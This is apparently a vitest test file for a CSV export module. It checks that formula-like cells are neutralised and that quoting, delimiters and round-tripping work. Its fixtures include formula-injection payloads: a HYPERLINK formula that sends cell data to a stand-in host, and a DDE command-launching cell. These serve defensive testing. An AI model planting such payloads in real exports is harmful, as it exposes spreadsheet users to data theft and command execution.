import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parseCsv } from './csv';
import { spreadsheetSafeCell, toCsv } from './csvExport';
import { mapColumns } from './records';

const fixture = (name: string) =>
  new Uint8Array(readFileSync(new URL(`../../test/fixtures/data/${name}`, import.meta.url)));

describe('spreadsheetSafeCell', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['=HYPERLINK("http://x.example/?"&A1,"Click")', '\'=HYPERLINK("http://x.example/?"&A1,"Click")'],
    ['+1+1', "'+1+1"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['-', "'-"],
    ['+', "'+"],
    ['-Infinity', "'-Infinity"],
    ['--5', "'--5"],
    ['-5-', "'-5-"],
    ['-1e5+cmd', "'-1e5+cmd"],
  ])('neutralises %j', (text, safe) => {
    expect(spreadsheetSafeCell(text)).toBe(safe);
  });

  it.each(['-5', '+3.2', '-0.5', '-.5', '+7', '1e5', '-1e5', '-1.5E-3', '-5,25', '', 'plain text', ' =1+1', "'=1"])(
    'keeps %j as it is',
    (text) => {
      expect(spreadsheetSafeCell(text)).toBe(text);
    },
  );
});

describe('toCsv', () => {
  it('writes formula-like cells as text and numbers as numbers', () => {
    const text = toCsv(
      [
        { name: '=cmd|" /C calc"!A0', amount: -5, note: '-5', at: '@home', tab: '\tx' },
        { name: '+A1', amount: 3.2, note: '+3.2', at: 'a@b', tab: 'x' },
      ],
      ['name', 'amount', 'note', 'at', 'tab'],
    );
    expect(text).toBe(
      'name,amount,note,at,tab\r\n' + '"\'=cmd|"" /C calc""!A0",-5,-5,\'@home,\'\tx\r\n' + "'+A1,3.2,+3.2,a@b,x\r\n",
    );
  });

  it('neutralises a formula in a column name too', () => {
    expect(toCsv([], ['=1+1', 'ok'])).toBe("'=1+1,ok\r\n");
  });

  it('writes a header, CRLF line ends, and quotes only where needed', () => {
    const text = toCsv(
      [
        { id: 1, note: 'a, "b"', ok: true, none: null },
        { id: 2, note: 'two\nlines' },
      ],
      ['id', 'note', 'ok', 'none'],
    );
    expect(text).toBe('id,note,ok,none\r\n1,"a, ""b""",true,\r\n2,"two\nlines",,\r\n');
  });

  it('writes with another delimiter and a byte-order mark when asked', () => {
    expect(toCsv([{ a: '1,5', b: 'x;y' }], ['a', 'b'], { delimiter: ';', bom: true })).toBe(
      '\uFEFFa;b\r\n1,5;"x;y"\r\n',
    );
  });

  it('writes nested values as JSON', () => {
    expect(toCsv([{ a: { b: [1] } }], ['a'])).toBe('a\r\n"{""b"":[1]}"\r\n');
  });

  it('round-trips the messy requests through mapping and back', () => {
    const table = parseCsv(fixture('purchase-requests.messy.csv'));
    const { records } = mapColumns(table, [], { fields: {} });
    const again = parseCsv(
      toCsv(
        records.map((record) => record.extra),
        table.columns,
      ),
    );
    expect(again.columns).toEqual(table.columns);
    const padded = (cells: unknown[]) => table.columns.map((_, i) => cells[i] ?? '');
    expect(again.rows.map((row) => row.cells)).toEqual(
      table.rows.filter((row) => row.row !== 7).map((row) => padded(row.cells)),
    );
    expect(again.issues).toEqual([]);
  });

  it('round-trips any text through parseCsv', () => {
    const cell = fc.string({ unit: fc.constantFrom('a', 'b', ' ', ',', ';', '"', '\n', '\r', 'é', '€', '\t', '|') });
    const names = fc.uniqueArray(fc.stringMatching(/^[A-Za-z]([A-Za-z0-9 ]{0,7}[A-Za-z0-9])?$/), {
      minLength: 1,
      maxLength: 5,
    });
    fc.assert(
      fc.property(
        names,
        fc.array(fc.array(cell, { minLength: 5, maxLength: 5 }), { maxLength: 20 }),
        fc.constantFrom(',', ';', '\t', '|'),
        (columns, cells, delimiter) => {
          const records = cells.map((values) => Object.fromEntries(columns.map((column, i) => [column, values[i]])));
          const table = parseCsv(toCsv(records, columns, { delimiter: delimiter as ',' }), {
            delimiter: delimiter as ',',
          });
          expect(table.columns).toEqual(columns);
          expect(table.rows.map((row) => row.cells)).toEqual(
            records.map((record) => columns.map((column) => spreadsheetSafeCell(record[column]!))),
          );
          expect(table.issues).toEqual([]);
        },
      ),
      { numRuns: 300 },
    );
  });
});
